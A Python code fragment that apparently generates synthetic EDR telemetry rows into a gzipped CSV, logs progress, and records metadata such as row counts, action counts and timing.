    action_counts: dict = {}
    with_sha256 = multiline = 0
    next_report = 0
    try:
        while gen.rows < rows and not err:
            for _ in range(min(5000, rows - gen.rows)):
                row = gen.row()
                action_counts[row[3]] = action_counts.get(row[3], 0) + 1
                with_sha256 += row[7] != ""
                multiline += "\r" in row[13] or "\r" in row[20]
                writer.writerow(row)
            chunk = buf.getvalue().encode()
            buf.seek(0)
            buf.truncate()
            total += len(chunk)
            q.put(chunk)
            if gen.rows >= next_report:
                log(f"  {gen.rows:>10,} rows  {total / MB:7.0f} MB  {time.perf_counter() - t0:6.1f} s")
                next_report += max(rows // 10, 1)
    finally:
        q.put(None)
        worker.join()
    if err:
        raise err[0]
    os.replace(tmp, gz_path)
    meta = {
        "params": params, "file": str(gz_path), "rows": gen.rows, "columns": len(EDR_COLUMNS),
        "uncompressed_bytes": total, "gz_bytes": gz_path.stat().st_size,
        "bytes_per_row": round(total / gen.rows, 1), "action_counts": action_counts,
        "rows_with_sha256": with_sha256, "rows_with_cr_in_a_field": multiline,
        "generate_seconds": round(time.perf_counter() - t0, 1),
    }
    meta_path.write_text(json.dumps(meta, indent=2) + "\n")
    log(f"generated {gen.rows:,} rows, {total / MB:.0f} MB -> {meta['gz_bytes'] / MB:.0f} MB gz, "
        f"{meta['bytes_per_row']} B/row, in {meta['generate_seconds']} s")
    meta["reused"] = False
    return meta
